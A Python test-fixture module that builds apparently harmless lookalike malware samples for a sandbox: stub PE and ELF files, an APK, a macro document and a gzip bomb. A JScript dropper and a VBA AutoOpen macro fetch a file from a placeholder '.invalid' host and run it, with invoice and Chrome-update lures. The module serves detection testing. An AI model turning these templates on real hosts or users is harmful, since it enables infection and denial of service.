"""Synthetic, harmless payloads with the right magic bytes and structure.

Each file looks like what URLhaus serves (a PE, an ELF, a ZIP with an EXE,
an APK, a WSH dropper, a macro document) to type sniffers and rule engines,
but does nothing: the PE's entry point is a single ``ret``, the ELFs exit,
and the droppers point at ``.invalid`` hosts. Every file carries the marker
``TOCSIN-SANDBOX-SAMPLE``.
"""

from __future__ import annotations

import io
import os
import struct
import threading
import zipfile
import zlib
from functools import cache
from pathlib import Path

MARKER = b"TOCSIN-SANDBOX-SAMPLE (synthetic, harmless)"


@cache
def pe_exe() -> bytes:
    """A minimal, valid PE32 GUI executable whose entry point returns at once."""
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    struct.pack_into("<H", dos, 0x02, 0x90)  # bytes on last page
    struct.pack_into("<H", dos, 0x04, 3)  # pages
    struct.pack_into("<H", dos, 0x08, 4)  # header paragraphs
    struct.pack_into("<H", dos, 0x0C, 0xFFFF)
    struct.pack_into("<H", dos, 0x10, 0xB8)
    struct.pack_into("<H", dos, 0x18, 0x40)
    struct.pack_into("<I", dos, 0x3C, 0x80)  # e_lfanew
    stub = (
        bytes.fromhex("0e1fba0e00b409cd21b8014ccd21")
        + b"This program cannot be run in DOS mode.\r\r\n$"
    )
    dos[0x40 : 0x40 + len(stub)] = stub
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x14C, 1, 0x65F1A2B3, 0, 0, 0xE0, 0x0102)
    opt = struct.pack(
        "<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII",
        0x10B,  # PE32
        14,
        0,
        0x200,  # size of code
        0,
        0,
        0x1000,  # entry point
        0x1000,  # base of code
        0x2000,  # base of data
        0x400000,  # image base
        0x1000,  # section alignment
        0x200,  # file alignment
        6,
        0,
        0,
        0,
        6,
        0,
        0,
        0x2000,  # size of image
        0x200,  # size of headers
        0,
        2,  # GUI subsystem
        0x8140,
        0x100000,
        0x1000,
        0x100000,
        0x1000,
        0,
        16,
    )
    opt += b"\0" * (16 * 8)
    section = struct.pack(
        "<8sIIIIIIHHI", b".text\0\0\0", 0x1000, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020
    )
    header = bytes(dos) + coff + opt + section
    header += b"\0" * (0x200 - len(header))
    body = b"\xc3" + b"\0" * 15 + MARKER + b"\0" + b"kernel32.dll\0ExitProcess\0"
    body += b"\0" * (0x200 - len(body))
    return header + body


def _elf(machine: int, big_endian: bool) -> bytes:
    """A 32-bit ELF executable with one PT_LOAD segment and the marker."""
    e = ">" if big_endian else "<"
    ident = b"\x7fELF" + bytes([1, 2 if big_endian else 1, 1, 0]) + b"\0" * 8
    entry = 0x400054
    header = ident + struct.pack(
        e + "HHIIIIIHHHHHH", 2, machine, 1, entry, 52, 0, 0, 52, 32, 1, 40, 0, 0
    )
    body = b"\0" * 8 + MARKER + b"\0/bin/busybox\0/proc/self/exe\0"
    total = 52 + 32 + len(body)
    phdr = struct.pack(e + "IIIIIIII", 1, 0, 0x400000, 0x400000, total, total, 5, 0x1000)
    return header + phdr + body


@cache
def elf_mips() -> bytes:
    return _elf(8, big_endian=True)


@cache
def elf_arm() -> bytes:
    return _elf(40, big_endian=False)


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 3, 14, 9, 26, 53))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


@cache
def zip_with_exe(exe_name: str = "Invoice_0342.exe") -> bytes:
    return _zip({exe_name: pe_exe()})


WSH_DROPPER = """// Payment advice viewer
var sh = WScript.CreateObject("WScript.Shell");
var http = WScript.CreateObject("MSXML2.XMLHTTP");
var stream = WScript.CreateObject("ADODB.Stream");
// TOCSIN-SANDBOX-SAMPLE (synthetic, harmless): the host below never resolves.
var url = "http://stage2-payload-host.invalid/c2/advice.bin";
var path = sh.ExpandEnvironmentStrings("%TEMP%") + "\\\\advice_view.txt";
try {
  http.open("GET", url, false);
  http.send();
  if (http.status == 200) {
    stream.Open(); stream.Type = 1; stream.Write(http.responseBody);
    stream.SaveToFile(path, 2); stream.Close();
    sh.Run("notepad.exe " + path, 1, false);
  }
} catch (e) {}
"""


@cache
def js_dropper() -> bytes:
    return WSH_DROPPER.encode()


@cache
def fake_update_zip() -> bytes:
    return _zip({"Chrome.Update.js": js_dropper()})


@cache
def apk() -> bytes:
    manifest = struct.pack("<HHI", 0x0003, 0x0008, 0x200) + b"\0" * 0x1F8
    dex = b"dex\n035\0" + b"\0" * 0x68 + MARKER
    return _zip(
        {
            "AndroidManifest.xml": manifest,
            "classes.dex": dex,
            "resources.arsc": b"\x02\x00\x0c\x00" + b"\0" * 60,
            "META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nCreated-By: 1.0 (Android)\r\n",
            "META-INF/CERT.SF": b"Signature-Version: 1.0\r\n",
            "META-INF/CERT.RSA": b"\x30\x82\x01\x00" + b"\0" * 60,
        }
    )


VBA_SOURCE = b"""Attribute VB_Name = "ThisDocument"
Sub AutoOpen()
    ' TOCSIN-SANDBOX-SAMPLE (synthetic, harmless): the host never resolves
    Dim u As String
    u = "http://stage2-payload-host.invalid/remit.bin"
    Shell "cmd /c echo " & u, vbHide
End Sub
"""


def _ole(streams: bytes) -> bytes:
    """An OLE2 compound-file header followed by stream-like data."""
    header = bytearray(512)
    header[0:8] = bytes.fromhex("d0cf11e0a1b11ae1")
    struct.pack_into("<HHHH", header, 24, 0x3E, 3, 0xFFFE, 9)
    struct.pack_into("<H", header, 32, 6)
    struct.pack_into("<I", header, 44, 1)
    struct.pack_into("<I", header, 48, 1)
    struct.pack_into("<I", header, 56, 0x1000)
    struct.pack_into("<I", header, 60, 0xFFFFFFFE)
    struct.pack_into("<I", header, 68, 0xFFFFFFFE)
    for i in range(109):
        struct.pack_into("<I", header, 76 + 4 * i, 0 if i == 0 else 0xFFFFFFFF)
    body = streams + b"\0" * (-len(streams) % 512)
    return bytes(header) + body


@cache
def docm() -> bytes:
    content_types = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        b'<Override PartName="/word/document.xml" ContentType="application/'
        b'vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
        b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
    )
    doc_rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
        b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/'
        b'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>'
    )
    document = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document '
        b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        b"<w:p><w:r><w:t>This document is protected. Enable editing and enable content "
        b"to view the remittance advice.</w:t></w:r></w:p></w:body></w:document>"
    )
    vba = _ole(b"\x01\x16\x01\x00_VBA_PROJECT\0VBA\0dir\0ThisDocument\0" + VBA_SOURCE)
    return _zip(
        {
            "[Content_Types].xml": content_types,
            "_rels/.rels": rels,
            "word/document.xml": document,
            "word/_rels/document.xml.rels": doc_rels,
            "word/vbaProject.bin": vba,
        }
    )


@cache
def ole_xls() -> bytes:
    return _ole(
        b"R\0o\0o\0t\0 \0E\0n\0t\0r\0y\0\0\0Workbook\0_VBA_PROJECT_CUR\0"
        + VBA_SOURCE.replace(b"AutoOpen", b"Auto_Open")
    )


# id -> (bytes factory, content type, filename for Content-Disposition or None)
PAYLOADS: dict[str, tuple[str, str, str | None]] = {
    "payload-pe": ("pe", "application/x-msdownload", "Invoice_0342.exe"),
    "payload-pe-as-png": ("pe", "image/png", None),
    "payload-zip": ("zip", "application/zip", "Invoice_0342.zip"),
    "payload-zip-as-html": ("zip", "text/html; charset=UTF-8", None),
    "payload-elf": ("elf-mips", "application/octet-stream", None),
    "payload-elf-as-text": ("elf-arm", "text/plain", None),
    "payload-apk": ("apk", "application/vnd.android.package-archive", "update.apk"),
    "payload-apk-octet": ("apk", "application/octet-stream", None),
    "payload-js": ("js", "application/javascript", None),
    "payload-js-as-text": ("js", "text/plain; charset=utf-8", None),
    "payload-docm": ("docm", "application/vnd.ms-word.document.macroEnabled.12", None),
    "payload-xls-as-pdf": ("xls", "application/pdf", None),
}

FACTORIES = {
    "pe": pe_exe,
    "zip": zip_with_exe,
    "elf-mips": elf_mips,
    "elf-arm": elf_arm,
    "apk": apk,
    "js": js_dropper,
    "docm": docm,
    "xls": ole_xls,
    "fake-update-zip": fake_update_zip,
}


def payload_bytes(kind: str, variant: int = 0) -> bytes:
    """The bytes of a payload kind; a non-zero variant appends an overlay so hashes differ."""
    data = FACTORIES[kind]()
    if variant:
        if kind in ("zip", "apk", "docm", "fake-update-zip"):
            data = data + f"\0variant {variant}".encode()  # ZIP readers ignore a trailer
        else:
            data = data + f"\0{MARKER.decode()} variant {variant}\0".encode()
    return data


# --------------------------------------------------------------------------- gzip bomb

BOMB_SIZE = 256 * 1024**2  # decompressed
_bomb_lock = threading.Lock()


def gzip_bomb(workdir: Path) -> Path:
    """A gzip stream of 256 MiB of zeros (about 256 KB), built once and cached on disk.

    One MiB of zeros is deflated once and ended with a full flush, which resets
    the compressor, so the same bytes repeated make a valid deflate stream.
    """
    path = workdir / "gzip-bomb.gz"
    with _bomb_lock:
        if path.exists():
            return path
        zeros = bytes(1024**2)
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        block = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
        repeats = BOMB_SIZE // len(zeros)
        crc = 0
        for _ in range(repeats):
            crc = zlib.crc32(zeros, crc)
        ending = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
        tmp = path.with_suffix(f".tmp{os.getpid()}")
        with tmp.open("wb") as out:
            out.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff")
            for _ in range(repeats):
                out.write(block)
            out.write(ending)
            out.write(struct.pack("<II", crc, BOMB_SIZE & 0xFFFFFFFF))
        tmp.replace(path)
    return path
